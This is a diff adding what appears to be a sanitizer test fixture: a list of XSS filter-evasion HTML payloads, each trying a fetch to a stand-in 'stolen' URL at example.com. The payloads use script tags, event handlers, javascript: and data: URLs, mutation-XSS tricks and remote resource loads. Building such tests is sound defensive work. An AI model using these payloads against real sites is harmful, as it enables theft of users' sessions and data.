@@ -1,0 +1,31 @@
+const DEED = "fetch('https://example.com/stolen')";
+
+/** One body for each way in which HTML does something by itself or at a touch (OWASP, XSS filter evasion), each trying the same deed. */
+export const HOSTILE_BODIES = [
+  `<script>${DEED}</script>`,
+  `<ScRiPt src="https://example.com/a.js"></sCrIpT>`,
+  `<img src="x" onerror="${DEED}">`,
+  `<img src=x oneonerrorrror=1 onerror=${DEED}//`,
+  `<img src="https://example.com/pixel.gif" alt="theo dõi">`,
+  `<svg onload="${DEED}"><circle r="9"/></svg>`,
+  `<svg><a xlink:href="javascript:${DEED}"><text y="20">bấm</text></a></svg>`,
+  `<math><mi xlink:href="data:text/html,<script>${DEED}</script>">bấm</mi></math>`,
+  `<a href="javascript:${DEED}">bấm</a>`,
+  `<a href=" &#1;java&#9;script:${DEED}">bấm</a>`,
+  `<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">bấm</a>`,
+  `<a href="vbscript:msgbox(1)">bấm</a>`,
+  `<iframe srcdoc="<script>${DEED}</script>"></iframe>`,
+  `<iframe src="https://example.com/"></iframe>`,
+  `<object data="https://example.com/a.swf"></object><embed src="https://example.com/a.swf">`,
+  `<form action="https://example.com/"><input name="q" autofocus onfocus="${DEED}"><button>Gửi</button></form>`,
+  `<p style="background:url(https://example.com/a.png)">nền</p>`,
+  `<style>@import "https://example.com/a.css"; body { display: none }</style><p>ẩn</p>`,
+  `<link rel="stylesheet" href="https://example.com/a.css"><meta http-equiv="refresh" content="0;url=https://example.com/">`,
+  `<base href="https://example.com/"><a href="/bai">đi đâu</a>`,
+  `<noscript><p title="</noscript><img src=x onerror=${DEED}>">`,
+  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=${DEED}&gt;">`,
+  `<template><img src=x onerror="${DEED}"></template>`,
+  `<details open ontoggle="${DEED}"><summary>mở</summary></details>`,
+  `<video><source onerror="${DEED}"></video><audio src="https://example.com/a.mp3" autoplay></audio>`,
+  `<table background="https://example.com/a.png"><tr><td onmouseover="${DEED}">ô</td></tr></table>`,
+];
